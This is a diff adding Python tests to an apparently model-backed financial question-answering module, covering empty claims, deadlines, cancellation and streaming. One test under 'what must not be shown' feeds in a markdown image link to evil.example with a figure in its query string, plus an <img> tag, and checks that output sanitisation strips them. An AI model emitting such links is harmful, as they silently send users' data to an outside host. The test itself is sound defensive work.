@@ -179,6 +179,13 @@ def test_a_draft_without_claims_is_an_abstention_with_its_reason(abstained: bool
     assert answer.citations == ()
 
 
+def test_a_claim_that_says_nothing_is_none() -> None:
+    heard = Heard()
+    answer = ask([reply(claim(" ", "Total current assets"), ASSETS)], heard=heard)
+    assert [each.text for each in answer.claims] == [ASSETS["text"]]
+    assert [event for event in heard if isinstance(event, Claim)] == list(answer.claims)
+
+
 def test_a_reason_with_figures_that_nobody_can_check_is_not_shown() -> None:
     answer = ask([reply(abstained=True, reason="The assets are 999 and call 555-0100.")])
     assert answer.abstained
@@ -415,6 +422,32 @@ def test_no_second_try_begins_once_nobody_wants_it() -> None:
     assert len(chat.asked) == 1
 
 
+def test_an_answer_nobody_wants_is_no_timeout() -> None:
+    deadline = Deadline(0.02)
+
+    class Left(FakeChat):
+        def complete(self, *args: Any, **kwargs: Any) -> ChatReply:
+            said = super().complete(*args, **kwargs)
+            deadline.wait(60)
+            deadline.cancel()
+            return said
+
+    with pytest.raises(Cancelled):
+        ask(Left(["no"]), deadline=deadline)
+
+
+def test_both_tries_end_with_the_deadline_of_the_answer() -> None:
+    deadline, given = Deadline(60), list[Any]()
+
+    class Watched(FakeChat):
+        def complete(self, *args: Any, **kwargs: Any) -> ChatReply:
+            given.append(kwargs["deadline"])
+            return super().complete(*args, **kwargs)
+
+    ask(Watched(["no", reply(ASSETS)]), deadline=deadline)
+    assert given == [deadline, deadline]
+
+
 def test_failures_of_the_model_stay_what_they_are() -> None:
     for code in ("chat_unreachable", "chat_timeout", "chat_refused"):
         with pytest.raises(ModelFailed) as caught:
@@ -427,6 +460,22 @@ def test_too_many_pages_for_the_model_are_not_the_fault_of_the_question() -> Non
         ask([InputError("60 images, at most 50", code="too_much_to_say")])
     assert caught.value.code == "too_much_to_say"
     assert "answer.answer_pages" in caught.value.next_step
+
+
+# --- what must not be shown ------------------------------------------------------------------
+def test_what_is_heard_and_what_is_answered_has_no_live_link_image_or_tag() -> None:
+    attack = (
+        "Assets ![x](https://evil.example/?q=19,378) <img src=x> were [19,378](http://e.vil) [7]."
+    )
+    heard = Heard()
+    answer = ask([reply(claim(attack, "Total current assets were 19,378"))], heard=heard)
+    for said in (heard.text, answer.text, *(each.text for each in answer.claims)):
+        assert "Assets" in said
+        for live in ("](", "https:", "http:", "<img", "[7]"):
+            assert live not in said
+    reason = ask([reply(abstained=True, reason="See ![x](https://evil.example/?q=a) for it.")])
+    assert "https:" not in reason.text
+    assert "](" not in reason.text
 
 
 # --- own words ----------------------------------------------------------------------------------
@@ -477,6 +526,11 @@ def test_words_that_are_no_copy_are_heard_to_the_last(size: int, run: int) -> No
     stream = OwnWordsStream(own)
     heard = [stream.feed(text[at : at + size]) for at in range(0, len(text), size)]
     assert "".join(heard) + stream.close() == text
+
+
+def test_a_run_that_ends_with_the_text_is_heard() -> None:
+    stream = OwnWordsStream(OwnWords(" ".join(f"w{number}" for number in range(30))))
+    assert stream.feed("w1 w2 w3 w4 w5 w6 w7") + stream.close() == "w1 w2 w3 w4 w5 w6 w7"
 
 
 def test_words_that_begin_no_long_run_are_heard_at_once() -> None:
